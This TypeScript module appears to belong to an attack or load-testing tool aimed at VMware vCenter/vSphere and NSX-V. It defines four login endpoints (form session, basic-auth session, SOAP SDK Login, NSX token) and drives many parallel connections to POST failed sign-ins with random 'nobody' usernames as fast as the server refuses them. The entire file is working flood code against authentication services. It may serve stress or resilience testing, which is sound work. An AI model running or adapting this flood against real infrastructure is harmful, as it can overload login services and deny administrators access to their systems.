import { attempt, basic, type Call, createCaller, xmlOf } from '../calls.ts'
import { type Attack, loops } from '../target.ts'

const password = 'not-the-password'
const form = { 'content-type': 'application/x-www-form-urlencoded' }

/** The doors, for a name that is nobody's. */
const doors: readonly ((name: string) => Call & { at: 'manager' | 'nsxv' })[] = [
  (name) => ({
    at: 'manager',
    path: '/api/session/create',
    headers: form,
    body: `j_username=${name}&j_password=${password}`,
  }),
  (name) => ({ at: 'manager', path: '/api/session', headers: { authorization: basic({ name, password }) } }),
  (name) => ({
    at: 'manager',
    path: '/sdk',
    headers: { 'content-type': 'text/xml' },
    body: xmlOf(
      'Login',
      `<_this type="SessionManager">SessionManager</_this><userName>${name}</userName><password>${password}</password>`,
    ),
  }),
  (name) => ({
    at: 'nsxv',
    path: '/api/2.0/services/auth/token',
    headers: { authorization: basic({ name, password }) },
  }),
]

/** Part 2: sign-ins of nobody, as fast as they are refused. */
export const signIns: Attack = async (target, connections, from, outcomes, ended) => {
  const callers = Array.from({ length: connections }, (_, number) => {
    const door = doors[number % doors.length] as (typeof doors)[number]
    return { door, caller: createCaller(target[door('').at], from) }
  })
  await loops(connections, ended, async (number) => {
    const { door, caller } = callers[number] as (typeof callers)[number]
    const name = `nobody-${Math.floor(Math.random() * 1e9)}@vsphere.local`
    await attempt(outcomes, caller, { method: 'POST', ...door(name) })
  })
  for (const { caller } of callers) caller.close()
}
